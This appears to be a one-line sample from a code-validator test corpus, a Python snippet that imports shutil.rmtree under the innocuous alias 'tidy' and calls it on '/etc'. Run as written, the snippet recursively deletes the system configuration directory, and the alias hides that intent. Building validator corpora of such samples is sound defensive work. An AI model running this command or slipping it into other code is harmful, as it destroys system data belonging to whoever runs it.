# ruff: noqa  (validator corpus: dangerous or deliberately plain code, kept as written)
from shutil import rmtree as tidy

tidy("/etc")
